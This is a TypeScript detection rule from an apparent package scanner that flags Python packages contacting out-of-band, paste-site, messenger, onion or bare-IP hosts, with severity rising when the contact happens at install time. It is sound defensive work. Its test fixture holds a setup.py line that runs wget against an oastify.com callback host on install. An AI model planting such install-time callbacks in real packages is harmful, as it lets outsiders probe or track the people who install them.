import { defineRule } from '../types.js';
import type { PyPackage, PyReport } from '../../analysis/python/model.js';
import { triggerOf } from '../../analysis/python/model.js';
import type { Severity } from '../../core/types.js';
import { when } from './util.js';

export const exfilServiceContact = defineRule<PyPackage, PyReport>({
  meta: {
    id: 'py/exfil-service-contact',
    kind: 'threat',
    category: 'exfiltration',
    severity: 'critical',
    confidence: 'high',
    ecosystems: ['pypi'],
    description: 'Contacts an out-of-band interaction, request-capture, paste/file-share or messenger service, a bare IP or a .onion host.',
    details: 'At install time this is the signature of dependency-confusion probes and stealer droppers; at call time it is a weaker signal.',
    examples: {
      positive: [{ files: { 'setup.py': "import os\nos.system('wget https://abc123.oastify.com/ping')\n" } }],
      negative: [{ files: { 'pkg/net.py': "import requests\ndef get():\n    return requests.get('https://api.example.com/v1')\n" } }],
    },
  },
  check(pkg, report) {
    for (const file of pkg.files) {
      for (const s of file.facts.sinks) {
        const d = s.dest;
        if (d === undefined) continue;
        if (!['oob', 'paste', 'messenger', 'onion', 'ip'].includes(d.cls)) continue;
        const trigger = triggerOf(file, s);
        let severity: Severity;
        if (trigger === 'install' || trigger === 'startup') severity = 'critical';
        else if (trigger === 'import') severity = d.cls === 'oob' || d.cls === 'onion' || d.cls === 'messenger' ? 'critical' : 'high';
        else severity = d.cls === 'oob' || d.cls === 'onion' ? 'high' : 'medium';
        report({
          path: file.path,
          line: s.line,
          col: s.col,
          trigger,
          severity,
          ...(s.decoded !== undefined ? { decoded: s.decoded } : {}),
          message: `Contacts ${d.host || d.raw} (${d.cls === 'ip' ? 'bare IP address' : `${d.cls} service`}) via ${s.via} ${when(trigger)}.`,
          data: { destination: d.host, class: d.cls },
        });
      }
    }
  },
});
